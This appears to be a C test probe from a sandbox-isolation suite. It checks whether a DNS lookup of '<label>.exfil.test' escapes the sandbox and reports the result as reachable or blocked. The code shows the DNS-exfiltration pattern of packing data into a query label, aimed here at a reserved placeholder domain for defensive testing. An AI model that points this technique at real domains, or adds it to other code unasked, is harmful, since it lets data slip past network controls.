/* NET-03 (network): DNS exfiltration PROBE. getaddrinfo("<label>.exfil.test")
 * where <label> = argv[1] (default "isola-probe"). .test is reserved, so the
 * lookup fails harmlessly; what matters is WHETHER a resolver answered:
 * EAI_NONAME/EAI_NODATA/success = a DNS server was reachable (a query left the
 * sandbox) -> RESULT:reachable; EAI_AGAIN/EAI_SYSTEM/EAI_FAIL = no resolver
 * reachable -> blocked. No listener involved. WASI preview1: N/E. */
#include "common.h"
#ifdef __wasi__
ATK_NE_MAIN("WASI preview1 has no name resolution")
#else
#include <netdb.h>
int main(int argc, char **argv) {
  char name[300];
  const char *label = argc > 1 ? argv[1] : "isola-probe";
  snprintf(name, sizeof name, "%.60s.exfil.test", label);
  for (char *c = name; *c; c++) if (!((*c >= 'a' && *c <= 'z') || (*c >= '0' && *c <= '9') || *c == '-' || *c == '.')) *c = '-';
  struct addrinfo hints = {0}, *res = NULL;
  hints.ai_family = AF_INET;
  hints.ai_socktype = SOCK_STREAM;
  double t0 = atk_now();
  int rc = getaddrinfo(name, NULL, &hints, &res);
  printf("DNS:getaddrinfo(%s) -> %d (%s) errno=%s in %.0f ms\n", name, rc, rc ? gai_strerror(rc) : "OK",
         atk_errname(errno), (atk_now() - t0) * 1000);
  if (res) freeaddrinfo(res);
  int reach = rc == 0 || rc == EAI_NONAME
#ifdef EAI_NODATA
              || rc == EAI_NODATA
#endif
      ;
  return atk_result(reach);
}
#endif
